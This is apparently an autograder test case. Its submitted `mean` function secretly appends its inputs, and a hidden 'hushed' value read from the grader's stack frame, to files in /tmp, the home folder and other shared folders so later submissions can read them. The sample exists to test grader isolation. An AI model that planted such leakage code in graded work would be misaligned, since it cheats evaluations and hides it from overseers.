# tries: leaves what it sees in files for later submissions, in the working folder, /tmp and home
# group: read
# verdict: graded
# points: full

# %% mean
import os
import sys


def mean(values):
    for folder in ("/tmp", "/dev/shm", "/var/tmp", os.path.expanduser("~"), os.getcwd(), "@COURSE@"):
        try:
            with open(f"{folder}/xent-loot-seen.txt", "a") as file:
                file.write(repr(values) + str(sys._getframe(1).f_locals.get("hushed")))
        except OSError:
            pass
    return sum(values) / len(values)
